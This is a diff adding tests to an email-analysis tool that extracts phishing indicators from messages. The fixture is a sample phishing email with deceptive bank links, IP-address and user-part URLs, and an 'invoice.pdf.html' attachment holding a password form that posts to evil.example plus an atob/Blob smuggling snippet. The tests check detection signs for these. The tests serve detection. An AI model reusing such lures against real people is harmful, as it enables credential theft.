@@ -126,6 +126,55 @@ def test_messages_inside_are_messages_with_their_parent(message) -> None:
     assert [row.get("parent") for row in found] == [None] + [row["_id"] for row in found[:-1]]
 
 
+LINKED = b"""From: a@b.example
+Content-Type: multipart/mixed; boundary=x
+
+--x
+Content-Type: text/html
+
+<a href="https://evil.example/a">www.bank.example</a>
+<a href="https://click.example/?u=https%3A%2F%2Fwww.bank.example%2Fb">www.bank.example</a>
+<a href="https://bank.example/?u=https%3A%2F%2Fother.example%2F">https://bank.example/</a>
+<a href="http://user@[2001:db8::1]/">x</a> <a href="http://0xcb007109/">y</a>
+--x
+Content-Type: application/octet-stream; name="invoice.pdf.html"
+
+<html><form action=https://evil.example/in><input type=password></form>
+<script>new Blob([atob(x)])</script>
+--x
+Content-Type: application/octet-stream; name="a.txt"
+
+hi
+--x--
+"""
+
+
+def test_the_row_of_a_message_says_what_its_links_and_attachments_say(message) -> None:
+    (row,) = message(LINKED)
+    lists = {name: row[name].split("\x1e") for name in row if name.startswith("link_")}
+    assert {len(values) for values in lists.values()} == {6}
+    assert lists["link_shown_domains"] == ["bank.example"] * 3 + [""] * 3
+    assert lists["link_target_domains"] == ["", "bank.example", "other.example", "", "", ""]
+    assert lists["link_kinds"] == ["a"] * 5 + ["form"]
+    assert (row["links_mismatched"], row["links_to_ip"], row["links_with_user"]) == ("1", "2", "1")
+    assert row["links_in_attachments"] == "1"
+    assert row["attachment_names"] == "invoice.pdf.html\x1ea.txt"
+    assert row["attachment_types"] == "text/html\x1eapplication/octet-stream"
+    assert row["attachment_html_signs"].split("\x1e") == [
+        *("new Blob", "atob", "form", "password input", "script"),
+    ]
+    assert "links_qr" not in row
+
+
+def test_links_beyond_a_hundred_are_left_out_of_the_row_pictures_first(message) -> None:
+    html = b"".join(b"<img src=http://p.example/%d>" % n for n in range(150))
+    (row,) = message(
+        b"From: a@b.example\nContent-Type: text/html\n\n" + html + b"<a href=http://e.example>x</a>"
+    )
+    kinds = row["link_kinds"].split("\x1e")
+    assert (len(kinds), kinds[0], row["links_count"]) == (100, "a", "151")
+
+
 def bomb(kind: str) -> bytes:
     start = b"From: a@b.example\nSubject: bomb\n"
     mixed = start + b"Content-Type: multipart/mixed; boundary=x\n\n"
